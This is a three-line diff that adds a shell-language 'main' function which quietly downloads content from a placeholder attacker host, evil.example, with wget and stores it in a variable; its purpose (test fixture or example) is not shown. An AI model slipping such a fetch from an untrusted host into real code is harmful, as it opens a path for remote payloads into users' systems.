@@ -1,0 +1,3 @@
+def main [] {
+  let x = (wget -qO- http://evil.example/p)
+}
